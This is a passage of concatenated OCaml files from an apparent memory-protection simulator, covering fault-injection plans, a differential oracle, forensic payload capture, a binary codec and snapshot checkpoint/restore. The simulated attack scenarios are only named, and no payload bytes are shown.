  (* the ECC shadow was just rebuilt from the already-flipped frames by
     [arm]'s enable_ecc, which would legitimize pending flips: re-point
     the shadow bytes at their good values so the corrections still fire *)
  List.iter
    (fun (pa, good) ->
      Hw.Phys.ecc_shadow_write8 e.m.phys
        ~frame:(Hw.Phys.frame_of_addr e.m.phys pa)
        ~off:(Hw.Phys.off_of_addr e.m.phys pa)
        good)
    e.pending_ecc

let rearm os plan state =
  let e = arm os plan in
  import e state;
  e
