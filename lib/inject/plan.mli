(** Declarative fault-injection plans.

    A plan is a pure value carrying everything a campaign run needs to be
    reproduced bit-for-bit: the scenario to run, the injector seed, the
    fault classes to draw from, the trigger window and the fault budget.
    Serializable to one line of text so an interrupted campaign's plan
    rides inside snapshot metadata. *)

type fault_class =
  | Tlb_wrong_pfn  (** flip physical-frame bits of a live TLB entry *)
  | Tlb_wrong_perms  (** flip user/writable/nx of a live TLB entry *)
  | Tlb_phantom
      (** plant a stale entry that should have been invalidated (and
          swallow the next [invlpg] — the missed-invalidation fault) *)
  | Pte_flip  (** flip present/writable/user/nx in the live pagetable *)
  | Frame_flip_code  (** flip a bit in a code-copy physical frame *)
  | Frame_flip_data  (** flip a bit in a data-copy physical frame *)
  | Alloc_exhaustion  (** make the next frame allocations fail transiently *)
  | Syscall_transient  (** fail a syscall dispatch once (kernel restarts it) *)

val all_classes : fault_class list
val class_name : fault_class -> string
val class_of_name : string -> fault_class option
val classes_string : fault_class list -> string
(** Comma-joined {!class_name}s. *)

type trigger = {
  at_cycle : int;  (** first eligible scheduler boundary at/after this cycle *)
  every : int;  (** min cycles between injections (0 = single shot) *)
  pid : int option;  (** only inject while this pid was last running *)
  vpn : int option;  (** restrict TLB/PTE/frame targets to this vpn *)
}

type t = {
  label : string;
  scenario : string;  (** a {!Snap.Scenario} name *)
  seed : int;
  classes : fault_class list;
  trigger : trigger;
  budget : int;  (** max faults injected over the whole run *)
  fuel : int;
}

val make :
  ?label:string ->
  ?scenario:string ->
  ?seed:int ->
  ?classes:fault_class list ->
  ?at_cycle:int ->
  ?every:int ->
  ?pid:int ->
  ?vpn:int ->
  ?budget:int ->
  ?fuel:int ->
  unit ->
  t
(** Defaults: scenario ["benign"], seed 7, all classes, first fire at cycle
    2000 then every 600 cycles, budget 4, fuel 1M. The default label is
    ["<class>@<scenario>"] (or ["mixed@<scenario>"]). *)

val to_string : t -> string
(** One-line [key=value;...] form (snapshot metadata). *)

val of_string : string -> t
(** @raise Invalid_argument on malformed input. *)
