(** Deterministic fault injection with a differential no-fault oracle.

    A {!Plan} ({!module:Plan}) names a {!Snap.Scenario}, a seed, fault
    classes, a trigger window and a budget. {!run_plan} runs the scenario
    twice — once untouched (the fault-free twin), once with the
    {!module:Engine} armed — and compares the two machines bit-for-bit
    (rendered event log, stop reason, cycle counter). {!campaign} fans a
    plan list over the {!Fleet} worker pool with submission-order verdicts,
    so the rendered summary is byte-identical at any [-j].

    Verdicts: [Detected] (a detector fired that the twin didn't see),
    [Masked] (identical event log, no detection — the fault was absorbed),
    [Escaped] (divergence with no detection — what campaigns exist to
    prove impossible), [Clean] (nothing injected, bit-identical run). *)

module Prng = Prng
module Plan = Plan
module Engine = Engine

type outcome = Detected | Masked | Escaped | Clean

val outcome_name : outcome -> string

type verdict = {
  v_label : string;
  v_scenario : string;
  v_seed : int;
  v_classes : string;  (** comma-joined fault-class names of the plan *)
  v_outcome : outcome;
  v_injected : int;  (** faults actually injected *)
  v_details : (string * int * string) list;
      (** (class, cycle, target detail) per injected fault, oldest first *)
  v_detections : int;  (** engine-detector firings (guard resyncs + ECC) *)
  v_events_match : bool;  (** event log and stop reason identical to twin *)
  v_cycles_match : bool;
  v_base_cycles : int;
  v_cycles : int;
  v_base_stop : string;
  v_stop : string;
}

val is_detection_event : Kernel.Event_log.event -> bool
(** Detection-class events the oracle counts: [Fault_detected],
    [Injection_detected], [Library_rejected], [Signal_delivered]. *)

val run_plan : ?obs:Obs.t -> Plan.t -> verdict
(** Run one plan and its fault-free twin; classify. [obs] (attached to both
    machines) is for debugging single runs — {!campaign} keeps machines
    unobserved. *)

val campaign : ?obs:Obs.t -> ?jobs:int -> Plan.t list -> verdict list
(** Fan plans over the fleet, verdicts in submission order. [obs] records
    fleet metrics only. A crashed plan raises [Failure] — a campaign must
    never silently drop a run. *)

val default_plans : ?seed:int -> unit -> Plan.t list
(** The CI campaign: one single-class plan per fault class on ["benign"],
    plus the split-bookkeeping classes on ["attack-break"] (12 plans). *)

val reuse_plans : ?seed:int -> unit -> Plan.t list
(** The code-reuse extension: the split-bookkeeping classes against the
    ["reuse-*"] scenarios (escaping ROP under split alone, CFI-detected
    reuse), 12 plans — the oracle over the defense x attack matrix. *)

val escaped : verdict list -> verdict list
val tally : verdict list -> int * int * int * int
(** (detected, masked, escaped, clean). *)

val render_summary : Format.formatter -> verdict list -> unit
(** The deterministic campaign summary (no wall-clock content): per-plan
    table, per-class roll-up, totals. What [simctl inject] prints and the
    golden test pins. *)

val summary_string : verdict list -> string

(** {2 Snapshot integration}

    An interrupted campaign run checkpoints through {!checkpoint} (the
    injector state rides in snapshot metadata); restoring the snapshot
    and calling {!rearm} resumes mid-plan and reaches the same verdict. *)

val checkpoint : Kernel.Os.t -> Engine.t -> Snap.Snapshot.t
val rearm : Kernel.Os.t -> Snap.Snapshot.t -> Engine.t
(** Call after {!Snap.Snapshot.restore} on the restored machine.
    @raise Invalid_argument if the snapshot carries no injector state. *)
