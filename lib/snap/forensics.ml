type diff_range = { dr_off : int; dr_code : string; dr_data : string }

type page_diff = {
  pd_vpn : int;
  pd_code_frame : int;
  pd_data_frame : int;
  pd_ranges : diff_range list;
}

let gap_tolerance = 8

type capture = {
  c_trigger : Snapshot.trigger;
  c_snapshot : Snapshot.t;
  c_diff : page_diff option;
  c_payload_off : int;
  c_payload : string;
  c_dir : string option;
}

(* Merge differing offsets into ranges, bridging runs of <= gap_tolerance
   equal bytes: injected code contains legitimate zeros (imm32 operands,
   terminators) that coincide with the zero-filled code copy. *)
let diff_ranges code data =
  let n = String.length code in
  let ranges = ref [] in
  let cur = ref None in
  for i = 0 to n - 1 do
    if code.[i] <> data.[i] then
      match !cur with
      | None -> cur := Some (i, i)
      | Some (lo, hi) ->
        if i - hi <= gap_tolerance then cur := Some (lo, i)
        else begin
          ranges := (lo, hi) :: !ranges;
          cur := Some (i, i)
        end
  done;
  (match !cur with Some r -> ranges := r :: !ranges | None -> ());
  List.rev_map
    (fun (lo, hi) ->
      let len = hi - lo + 1 in
      { dr_off = lo; dr_code = String.sub code lo len; dr_data = String.sub data lo len })
    !ranges

let page_diff os ~pid ~addr =
  match Kernel.Os.proc os pid with
  | None -> None
  | Some p -> (
    let vpn = addr / Kernel.Os.page_size os in
    match Kernel.Aspace.pte p.aspace vpn with
    | Some ({ split = Some s; _ } as _pte) ->
      let phys = Kernel.Os.phys os in
      (* the pristine code copy, even if observe mode has since locked the
         mapping to the data side *)
      let code = Hw.Phys.to_string phys ~frame:s.code_frame in
      let data = Hw.Phys.to_string phys ~frame:s.data_frame in
      Some
        {
          pd_vpn = vpn;
          pd_code_frame = s.code_frame;
          pd_data_frame = s.data_frame;
          pd_ranges = diff_ranges code data;
        }
    | Some _ | None -> None)

let extract_payload diff ~eip_off =
  let containing =
    List.find_opt
      (fun r -> r.dr_off <= eip_off && eip_off < r.dr_off + String.length r.dr_data)
      diff.pd_ranges
  in
  let range =
    match containing with
    | Some _ -> containing
    | None -> List.find_opt (fun r -> r.dr_off >= eip_off) diff.pd_ranges
  in
  Option.map (fun r -> (r.dr_off, r.dr_data)) range

let hex s =
  String.concat "" (List.init (String.length s) (fun i -> Fmt.str "%02x" (Char.code s.[i])))

let diff_json c : Obs.Json.t =
  let open Obs.Json in
  Obj
    [
      ("pid", Int c.c_trigger.t_pid);
      ("eip", Str (Fmt.str "0x%08x" c.c_trigger.t_eip));
      ("mode", Str c.c_trigger.t_mode);
      ("cycle", Int (Snapshot.cycle c.c_snapshot));
      ( "page",
        match c.c_diff with
        | None -> Null
        | Some d ->
          Obj
            [
              ("vpn", Str (Fmt.str "0x%x" d.pd_vpn));
              ("code_frame", Int d.pd_code_frame);
              ("data_frame", Int d.pd_data_frame);
              ( "ranges",
                List
                  (List.map
                     (fun r ->
                       Obj
                         [
                           ("off", Int r.dr_off);
                           ("len", Int (String.length r.dr_data));
                           ("code", Str (hex r.dr_code));
                           ("data", Str (hex r.dr_data));
                         ])
                     d.pd_ranges) );
            ] );
      ("payload_off", Int c.c_payload_off);
      ("payload", Str (hex c.c_payload));
    ]

let rec mkdir_p dir =
  if dir = "" || dir = "." || dir = "/" || Sys.file_exists dir then ()
  else begin
    mkdir_p (Filename.dirname dir);
    Sys.mkdir dir 0o755
  end

let write_artifacts dir k c =
  mkdir_p dir;
  let path name = Filename.concat dir (Fmt.str "capture-%d%s" k name) in
  ignore (Snapshot.save ~file:(path ".snap") c.c_snapshot : int);
  Out_channel.with_open_bin (path ".payload.bin") (fun oc ->
      Out_channel.output_string oc c.c_payload);
  Out_channel.with_open_text (path ".diff.json") (fun oc ->
      Out_channel.output_string oc (Obs.Json.to_string (diff_json c));
      Out_channel.output_char oc '\n')

let arm ?dir ?(all = false) os =
  let captures = ref [] in
  Kernel.Event_log.subscribe (Kernel.Os.log os) (fun event ->
      match event with
      | Kernel.Event_log.Injection_detected { pid; eip; mode }
        when all || !captures = [] ->
        let trigger = { Snapshot.t_pid = pid; t_eip = eip; t_mode = mode } in
        let diff = page_diff os ~pid ~addr:eip in
        let eip_off = eip mod Kernel.Os.page_size os in
        let payload_off, payload =
          match diff with
          | None -> (eip_off, "")
          | Some d -> (
            match extract_payload d ~eip_off with
            | Some (off, bytes) -> (off, bytes)
            | None -> (eip_off, ""))
        in
        let snapshot =
          Snapshot.checkpoint ~meta:[ ("source", "forensic-capture") ] ~trigger os
        in
        let k = List.length !captures in
        let c =
          {
            c_trigger = trigger;
            c_snapshot = snapshot;
            c_diff = diff;
            c_payload_off = payload_off;
            c_payload = payload;
            c_dir = dir;
          }
        in
        (match dir with Some d -> write_artifacts d k c | None -> ());
        let obs = Kernel.Os.obs os in
        if Obs.enabled obs then Obs.count obs "snap.captures";
        captures := !captures @ [ c ]
      | _ -> ());
  captures
