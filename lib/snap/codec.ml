exception Corrupt of string

let corrupt fmt = Fmt.kstr (fun s -> raise (Corrupt s)) fmt

module W = struct
  type t = Buffer.t

  let create () = Buffer.create 65536
  let u8 b v = Buffer.add_char b (Char.chr (v land 0xFF))

  (* zigzag so negative values (register contents, error returns held in
     saved GPRs) stay within the unsigned 62-bit range of the encoding *)
  let int b v =
    let z = (v lsl 1) lxor (v asr 62) in
    for i = 0 to 7 do
      u8 b (z lsr (8 * i))
    done

  let bool b v = u8 b (if v then 1 else 0)

  let str b s =
    int b (String.length s);
    Buffer.add_string b s

  let opt f b = function
    | None -> bool b false
    | Some v ->
      bool b true;
      f b v

  let list f b xs =
    int b (List.length xs);
    List.iter (f b) xs

  let int_array b a =
    int b (Array.length a);
    Array.iter (int b) a

  let raw = Buffer.add_string
  let contents = Buffer.contents
end

module R = struct
  type t = { s : string; mutable pos : int }

  let of_string s = { s; pos = 0 }

  let u8 r =
    if r.pos >= String.length r.s then corrupt "truncated at byte %d" r.pos;
    let v = Char.code r.s.[r.pos] in
    r.pos <- r.pos + 1;
    v

  let int r =
    let z = ref 0 in
    for i = 0 to 7 do
      z := !z lor (u8 r lsl (8 * i))
    done;
    let z = !z in
    (z lsr 1) lxor (-(z land 1))

  let bool r =
    match u8 r with
    | 0 -> false
    | 1 -> true
    | n -> corrupt "bad bool tag %d at byte %d" n (r.pos - 1)

  let str r =
    let n = int r in
    if n < 0 || r.pos + n > String.length r.s then
      corrupt "bad string length %d at byte %d" n r.pos;
    let s = String.sub r.s r.pos n in
    r.pos <- r.pos + n;
    s

  let opt f r = if bool r then Some (f r) else None

  let list f r =
    let n = int r in
    if n < 0 then corrupt "negative list length at byte %d" r.pos;
    List.init n (fun _ -> f r)

  let int_array r =
    let n = int r in
    if n < 0 then corrupt "negative array length at byte %d" r.pos;
    Array.init n (fun _ -> int r)

  let at_end r = r.pos = String.length r.s

  let expect r lit =
    let n = String.length lit in
    if r.pos + n > String.length r.s || String.sub r.s r.pos n <> lit then
      corrupt "expected %S at byte %d" lit r.pos;
    r.pos <- r.pos + n
end
