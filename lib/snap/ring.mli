(** Periodic auto-checkpointing with a bounded snapshot ring.

    Installs a {!Kernel.Os.set_sched_hook} callback that checkpoints the
    machine every [every_cycles] simulated cycles (sampled at scheduler-loop
    boundaries, so each snapshot is replay-exact). At most [keep] snapshots
    are retained; the oldest is evicted when the ring is full — graceful
    degradation rather than unbounded memory growth. *)

type t

val install : every_cycles:int -> keep:int -> Kernel.Os.t -> t
(** Replaces any previously installed scheduler hook.
    @raise Invalid_argument if [every_cycles <= 0] or [keep <= 0]. *)

val uninstall : t -> unit
(** Remove the hook; retained snapshots stay readable. *)

val snapshots : t -> Snapshot.t list
(** Retained snapshots, oldest first. *)

val latest : t -> Snapshot.t option
val taken : t -> int
(** Total checkpoints taken (including evicted ones). *)

val evicted : t -> int
