(** Canonical checkpointable scenarios.

    Each scenario is fully self-driving: {!start} builds the machine,
    spawns the guest and feeds any attack input up front, so a single
    {!Kernel.Os.run} (or a fuel-sliced sequence of runs with checkpoints in
    between) carries it to completion deterministically. They back the
    round-trip/replay tests, the [simctl snapshot/replay] subcommands and
    the CI replay gate. *)

type t = {
  name : string;
  descr : string;
  defense : Defense.t;
  start : ?obs:Obs.t -> unit -> Kernel.Os.t;
}

val all : t list
(** - ["benign"]: a compute/IO loop under full split memory — no attack.
    - ["attack-break"]: shellcode injection, Break response (detection
      kills the victim).
    - ["attack-forensics"]: same injection, Forensics response.
    - ["attack-observe"]: same injection, Observe response with Sebek-style
      syscall tracing (the attack is allowed to proceed). *)

val names : string list
val find : string -> t option

val injected_payload : string
(** The exact shellcode bytes the attack scenarios inject — what a forensic
    capture must extract. *)

val payload_landing : int
(** The guest virtual address the payload lands (and detonates) at. *)
