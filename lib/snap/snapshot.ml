let version = 1
let magic = "SMEMSNP1"

type trigger = { t_pid : int; t_eip : int; t_mode : string }

(* ------------------------------------------------------------------ *)
(* State model: plain immutable data, no live kernel references        *)
(* ------------------------------------------------------------------ *)

type pte_state = {
  ps_vpn : int;
  ps_kind : int;
  ps_frame : int;
  ps_present : bool;
  ps_writable : bool;
  ps_user : bool;
  ps_nx : bool;
  ps_cow : bool;
  ps_orig_writable : bool;
  ps_split : (int * int * bool) option;  (* code_frame, data_frame, locked *)
}

type region_state = {
  rs_lo : int;
  rs_hi : int;
  rs_kind : int;
  rs_writable : bool;
  rs_execable : bool;
  rs_source : (int * string) option;  (* Image_bytes (base, bytes); None = Zero *)
}

type proc_state = {
  pr_pid : int;
  pr_name : string;
  pr_parent : int option;
  pr_gpr : int array;
  pr_eip : int;
  pr_zf : bool;
  pr_sf : bool;
  pr_tf : bool;
  pr_state : int;  (* 0 runnable, 1 blocked, 2 zombie *)
  pr_wait : (int * int) option;  (* blocked: (cond tag, arg) *)
  pr_exit : (int * int) option;  (* zombie: (status tag, arg) *)
  pr_next_fd : int;
  pr_pending_fault : int option;
  pr_sebek : bool;
  pr_detections : int;
  pr_recovery : int option;
  pr_trace : int array;
  pr_trace_pos : int;
  pr_insns : int;  (* per-process retired-instruction count *)
  pr_protected : bool;
  pr_console_in : int;  (* pipe registry ids *)
  pr_console_out : int;
  pr_fds : (int * bool * int) list;  (* fd, is_write_end, pipe id *)
  pr_brk : int;
  pr_mmap_cursor : int;
  pr_regions : region_state list;  (* aspace list order preserved *)
  pr_ptes : pte_state list;  (* sorted by vpn *)
}

type cost_state = {
  cs_cycles : int;
  cs_insns : int;
  cs_traps : int;
  cs_split_faults : int;
  cs_single_steps : int;
  cs_syscalls : int;
  cs_ctx_switches : int;
}

type t = {
  sn_page_size : int;
  sn_frame_count : int;
  sn_protection : string;
  sn_params_hash : int;
  sn_cost : cost_state;
  sn_frames : (int * string) list;  (* non-zero frames, ascending *)
  sn_frames_skipped : int;
  sn_alloc : Kernel.Frame_alloc.state;
  sn_itlb : Hw.Tlb.state;
  sn_dtlb : Hw.Tlb.state;
  sn_pipes : (int * Kernel.Pipe.state) list;  (* registry id, state *)
  sn_procs : proc_state list;  (* sorted by pid *)
  sn_libs : (string * Kernel.Os.library) list;
  sn_runq : int list;
  sn_rng : string;  (* Marshal blob of the kernel PRNG *)
  sn_last_running : int option;
  sn_next_pid : int;
  sn_next_tick : int;
  sn_ticks : int;
  sn_lib_cursor : int;
  sn_events : Kernel.Event_log.event list;  (* oldest first *)
  sn_meta : (string * string) list;
  sn_trigger : trigger option;
}

let cycle t = t.sn_cost.cs_cycles
let page_size t = t.sn_page_size
let frame_count t = t.sn_frame_count
let frames_written t = List.length t.sn_frames
let frames_sparse_skipped t = t.sn_frames_skipped
let protection_name t = t.sn_protection
let meta t = t.sn_meta
let find_meta t k = List.assoc_opt k t.sn_meta
let trigger t = t.sn_trigger

(* ------------------------------------------------------------------ *)
(* Enum tags                                                           *)
(* ------------------------------------------------------------------ *)

let kind_to_int : Kernel.Pte.kind -> int = function
  | Code -> 0
  | Rodata -> 1
  | Data -> 2
  | Bss -> 3
  | Heap -> 4
  | Stack -> 5
  | Mixed -> 6
  | Lib -> 7
  | Mmap -> 8

let kind_of_int : int -> Kernel.Pte.kind = function
  | 0 -> Code
  | 1 -> Rodata
  | 2 -> Data
  | 3 -> Bss
  | 4 -> Heap
  | 5 -> Stack
  | 6 -> Mixed
  | 7 -> Lib
  | 8 -> Mmap
  | n -> raise (Codec.Corrupt (Fmt.str "bad pte kind %d" n))

let signal_to_int : Kernel.Proc.signal -> int = function
  | Sigsegv -> 0
  | Sigill -> 1
  | Sigkill -> 2
  | Sigpipe -> 3
  | Sigbus -> 4

let signal_of_int : int -> Kernel.Proc.signal = function
  | 0 -> Sigsegv
  | 1 -> Sigill
  | 2 -> Sigkill
  | 3 -> Sigpipe
  | 4 -> Sigbus
  | n -> raise (Codec.Corrupt (Fmt.str "bad signal %d" n))

let proc_state_fields (st : Kernel.Proc.state) =
  match st with
  | Runnable -> (0, None, None)
  | Blocked (Read_fd fd) -> (1, Some (0, fd), None)
  | Blocked (Write_fd fd) -> (1, Some (1, fd), None)
  | Blocked (Child pid) -> (1, Some (2, pid), None)
  | Blocked (Sleep until_) -> (1, Some (3, until_), None)
  | Zombie (Exited n) -> (2, None, Some (0, n))
  | Zombie (Killed s) -> (2, None, Some (1, signal_to_int s))

let proc_state_of_fields tag wait exit : Kernel.Proc.state =
  match (tag, wait, exit) with
  | 0, _, _ -> Runnable
  | 1, Some (0, fd), _ -> Blocked (Read_fd fd)
  | 1, Some (1, fd), _ -> Blocked (Write_fd fd)
  | 1, Some (2, pid), _ -> Blocked (Child pid)
  | 1, Some (3, until_), _ -> Blocked (Sleep until_)
  | 2, _, Some (0, n) -> Zombie (Exited n)
  | 2, _, Some (1, s) -> Zombie (Killed (signal_of_int s))
  | _ -> raise (Codec.Corrupt "bad process state")

let state_name = function
  | 0 -> "runnable"
  | 1 -> "blocked"
  | _ -> "zombie"

let proc_summaries t =
  List.map (fun p -> (p.pr_pid, p.pr_name, state_name p.pr_state)) t.sn_procs

(* ------------------------------------------------------------------ *)
(* Checkpoint                                                          *)
(* ------------------------------------------------------------------ *)

let require_no_caches what os =
  match Hw.Mmu.icache (Kernel.Os.mmu os) with
  | Some _ ->
    invalid_arg
      (what ^ ": the cache timing model is not serialized in format v1; \
       disable ~caches to snapshot this machine")
  | None -> ()

let us_since t0 =
  let dt = (Sys.time () -. t0) *. 1e6 in
  if dt < 0. then 0 else int_of_float dt

(* Pipes are shared objects (fork-inherited fds, connect pairs): identify
   them physically and number them in first-encounter order over the
   pid-sorted process list, so the same logical machine always produces
   the same registry. *)
let export_pipes_and_procs os =
  let reg : (Kernel.Pipe.t * int) list ref = ref [] in
  let states = ref [] in
  let pipe_id p =
    match List.assq_opt p !reg with
    | Some id -> id
    | None ->
      let id = List.length !reg in
      reg := (p, id) :: !reg;
      states := (id, Kernel.Pipe.export p) :: !states;
      id
  in
  let export_proc (p : Kernel.Proc.t) =
    let tag, wait, exit = proc_state_fields p.state in
    let console_in = pipe_id p.console_in in
    let console_out = pipe_id p.console_out in
    let fds =
      Hashtbl.fold (fun n obj acc -> (n, obj) :: acc) p.fds []
      |> List.sort (fun (a, _) (b, _) -> compare a b)
      |> List.map (fun (n, obj) ->
             match (obj : Kernel.Proc.fd_obj) with
             | Read_end pipe -> (n, false, pipe_id pipe)
             | Write_end pipe -> (n, true, pipe_id pipe))
    in
    let regions =
      List.map
        (fun (r : Kernel.Aspace.region) ->
          {
            rs_lo = r.lo;
            rs_hi = r.hi;
            rs_kind = kind_to_int r.kind;
            rs_writable = r.writable;
            rs_execable = r.execable;
            rs_source =
              (match r.source with
              | Zero -> None
              | Image_bytes { base; bytes } -> Some (base, bytes));
          })
        p.aspace.regions
    in
    let ptes = ref [] in
    Kernel.Aspace.iter_ptes p.aspace (fun pte ->
        ptes :=
          {
            ps_vpn = pte.vpn;
            ps_kind = kind_to_int pte.kind;
            ps_frame = pte.frame;
            ps_present = pte.present;
            ps_writable = pte.writable;
            ps_user = pte.user;
            ps_nx = pte.nx;
            ps_cow = pte.cow;
            ps_orig_writable = pte.orig_writable;
            ps_split =
              Option.map
                (fun (s : Kernel.Pte.split) ->
                  (s.code_frame, s.data_frame, s.locked_to_data))
                pte.split;
          }
          :: !ptes);
    {
      pr_pid = p.pid;
      pr_name = p.name;
      pr_parent = p.parent;
      pr_gpr = Array.copy p.regs.gpr;
      pr_eip = p.regs.eip;
      pr_zf = p.regs.zf;
      pr_sf = p.regs.sf;
      pr_tf = p.regs.tf;
      pr_state = tag;
      pr_wait = wait;
      pr_exit = exit;
      pr_next_fd = p.next_fd;
      pr_pending_fault = p.pending_fault_addr;
      pr_sebek = p.sebek_active;
      pr_detections = p.detections;
      pr_recovery = p.recovery_handler;
      pr_trace = Array.copy p.trace;
      pr_trace_pos = p.trace_pos;
      pr_insns = p.p_insns;
      pr_protected = p.protected_;
      pr_console_in = console_in;
      pr_console_out = console_out;
      pr_fds = fds;
      pr_brk = p.aspace.brk;
      pr_mmap_cursor = p.aspace.mmap_cursor;
      pr_regions = regions;
      pr_ptes = List.sort (fun a b -> compare a.ps_vpn b.ps_vpn) !ptes;
    }
  in
  let procs = List.map export_proc (Kernel.Os.procs os) in
  (List.rev !states, procs)

let checkpoint ?(meta = []) ?trigger os =
  require_no_caches "Snapshot.checkpoint" os;
  let t0 = Sys.time () in
  let phys = Kernel.Os.phys os in
  let cost = Kernel.Os.cost os in
  let mmu = Kernel.Os.mmu os in
  let n = Hw.Phys.frame_count phys in
  let frames = ref [] and skipped = ref 0 in
  for frame = n - 1 downto 0 do
    if Hw.Phys.is_zero_frame phys ~frame then incr skipped
    else frames := (frame, Hw.Phys.to_string phys ~frame) :: !frames
  done;
  let pipes, procs = export_pipes_and_procs os in
  (* scheduler bookkeeping comes straight from the scheduler layer *)
  let sched : Kernel.Sched.state = Kernel.Sched.state (Kernel.Os.machine os) in
  let snap =
    {
      sn_page_size = Kernel.Os.page_size os;
      sn_frame_count = n;
      sn_protection = (Kernel.Os.protection os).name;
      sn_params_hash = Hashtbl.hash cost.params;
      sn_cost =
        {
          cs_cycles = cost.cycles;
          cs_insns = cost.insns;
          cs_traps = cost.traps;
          cs_split_faults = cost.split_faults;
          cs_single_steps = cost.single_steps;
          cs_syscalls = cost.syscalls;
          cs_ctx_switches = cost.ctx_switches;
        };
      sn_frames = !frames;
      sn_frames_skipped = !skipped;
      sn_alloc = Kernel.Frame_alloc.export (Kernel.Os.alloc os);
      sn_itlb = Hw.Tlb.export (Hw.Mmu.itlb mmu);
      sn_dtlb = Hw.Tlb.export (Hw.Mmu.dtlb mmu);
      sn_pipes = pipes;
      sn_procs = procs;
      sn_libs = Kernel.Os.libraries os;
      sn_runq = sched.s_runq;
      sn_rng = Marshal.to_string sched.s_rng [];
      sn_last_running = sched.s_last_running;
      sn_next_pid = sched.s_next_pid;
      sn_next_tick = sched.s_next_tick;
      sn_ticks = sched.s_ticks;
      sn_lib_cursor = sched.s_lib_cursor;
      sn_events = Kernel.Event_log.to_list (Kernel.Os.log os);
      sn_meta = meta;
      sn_trigger = trigger;
    }
  in
  let obs = Kernel.Os.obs os in
  if Obs.enabled obs then begin
    Obs.count obs "snap.checkpoints";
    Obs.Metrics.incr ~by:!skipped (Obs.counter obs "snap.frames_sparse_skipped");
    Obs.Metrics.incr
      ~by:(List.length snap.sn_frames)
      (Obs.counter obs "snap.frames_written");
    Obs.Metrics.observe (Obs.histogram obs "snap.checkpoint_us") (us_since t0)
  end;
  snap

(* ------------------------------------------------------------------ *)
(* Restore                                                             *)
(* ------------------------------------------------------------------ *)

let restore os snap =
  require_no_caches "Snapshot.restore" os;
  let t0 = Sys.time () in
  let phys = Kernel.Os.phys os in
  let cost = Kernel.Os.cost os in
  let mmu = Kernel.Os.mmu os in
  if Kernel.Os.page_size os <> snap.sn_page_size then
    invalid_arg "Snapshot.restore: page size mismatch";
  if Hw.Phys.frame_count phys <> snap.sn_frame_count then
    invalid_arg "Snapshot.restore: frame count mismatch";
  if (Kernel.Os.protection os).name <> snap.sn_protection then
    invalid_arg
      (Fmt.str "Snapshot.restore: protection mismatch (machine %S, snapshot %S)"
         (Kernel.Os.protection os).name snap.sn_protection);
  if Hashtbl.hash cost.params <> snap.sn_params_hash then
    invalid_arg "Snapshot.restore: cost parameter mismatch";
  (* physical memory: zero everything, then lay down the sparse frames *)
  for frame = 0 to snap.sn_frame_count - 1 do
    Hw.Phys.fill phys ~frame 0
  done;
  List.iter
    (fun (frame, bytes) -> Hw.Phys.blit_from_string phys ~frame ~off:0 bytes)
    snap.sn_frames;
  (* the decoded-block cache is derived state: never serialized, dropped
     wholesale here and rebuilt lazily as execution resumes. (The refill
     above already bumped the generations of every watched frame; this
     also empties the table.) *)
  Option.iter Hw.Bbcache.clear (Kernel.Os.bbcache os);
  Kernel.Frame_alloc.import (Kernel.Os.alloc os) snap.sn_alloc;
  (* shared pipe objects *)
  let pipes = Hashtbl.create 16 in
  List.iter
    (fun (id, st) -> Hashtbl.replace pipes id (Kernel.Pipe.import st))
    snap.sn_pipes;
  let pipe id =
    match Hashtbl.find_opt pipes id with
    | Some p -> p
    | None -> raise (Codec.Corrupt (Fmt.str "dangling pipe id %d" id))
  in
  (* processes *)
  let build_proc (ps : proc_state) : Kernel.Proc.t =
    let regs = Hw.Cpu.create_regs () in
    Array.blit ps.pr_gpr 0 regs.gpr 0 (Array.length regs.gpr);
    regs.eip <- ps.pr_eip;
    regs.zf <- ps.pr_zf;
    regs.sf <- ps.pr_sf;
    regs.tf <- ps.pr_tf;
    let aspace = Kernel.Aspace.create ~page_size:snap.sn_page_size in
    aspace.brk <- ps.pr_brk;
    aspace.mmap_cursor <- ps.pr_mmap_cursor;
    aspace.regions <-
      List.map
        (fun rs ->
          {
            Kernel.Aspace.lo = rs.rs_lo;
            hi = rs.rs_hi;
            kind = kind_of_int rs.rs_kind;
            writable = rs.rs_writable;
            execable = rs.rs_execable;
            source =
              (match rs.rs_source with
              | None -> Kernel.Aspace.Zero
              | Some (base, bytes) -> Kernel.Aspace.Image_bytes { base; bytes });
            (* derived perf-only state, deliberately not serialized:
               recomputed by [Machine.rebuild_shares] below *)
            share = None;
          })
        ps.pr_regions;
    List.iter
      (fun p ->
        Kernel.Aspace.set_pte aspace
          {
            Kernel.Pte.vpn = p.ps_vpn;
            kind = kind_of_int p.ps_kind;
            frame = p.ps_frame;
            present = p.ps_present;
            writable = p.ps_writable;
            user = p.ps_user;
            nx = p.ps_nx;
            cow = p.ps_cow;
            orig_writable = p.ps_orig_writable;
            split =
              Option.map
                (fun (code_frame, data_frame, locked_to_data) ->
                  { Kernel.Pte.code_frame; data_frame; locked_to_data })
                p.ps_split;
          })
      ps.pr_ptes;
    let fds = Hashtbl.create 8 in
    List.iter
      (fun (n, is_write, id) ->
        Hashtbl.replace fds n
          (if is_write then Kernel.Proc.Write_end (pipe id)
           else Kernel.Proc.Read_end (pipe id)))
      ps.pr_fds;
    let p =
      {
        Kernel.Proc.pid = ps.pr_pid;
        name = ps.pr_name;
        aspace;
        regs;
        fds;
        console_in = pipe ps.pr_console_in;
        console_out = pipe ps.pr_console_out;
        state = proc_state_of_fields ps.pr_state ps.pr_wait ps.pr_exit;
        (* scheduler-derived, not serialized: [Sched.restore] re-marks the
           queued pids *)
        in_runq = false;
        p_insns = ps.pr_insns;
        next_fd = ps.pr_next_fd;
        pending_fault_addr = ps.pr_pending_fault;
        sebek_active = ps.pr_sebek;
        parent = ps.pr_parent;
        detections = ps.pr_detections;
        recovery_handler = ps.pr_recovery;
        trace = Array.copy ps.pr_trace;
        trace_pos = ps.pr_trace_pos;
        protected_ = ps.pr_protected;
        on_retire = ignore;
      }
    in
    p.on_retire <- (fun eip -> Kernel.Proc.record_trace p eip);
    p
  in
  Kernel.Os.replace_procs os (List.map build_proc snap.sn_procs);
  Kernel.Machine.rebuild_shares (Kernel.Os.machine os);
  Kernel.Os.restore_libraries os snap.sn_libs;
  Kernel.Sched.restore (Kernel.Os.machine os)
    {
      s_runq = snap.sn_runq;
      s_rng = (Marshal.from_string snap.sn_rng 0 : Random.State.t);
      s_last_running = snap.sn_last_running;
      s_next_pid = snap.sn_next_pid;
      s_next_tick = snap.sn_next_tick;
      s_ticks = snap.sn_ticks;
      s_lib_cursor = snap.sn_lib_cursor;
    };
  Kernel.Event_log.set_events (Kernel.Os.log os) snap.sn_events;
  (* pagetables must match last_running before the TLB state goes in, so a
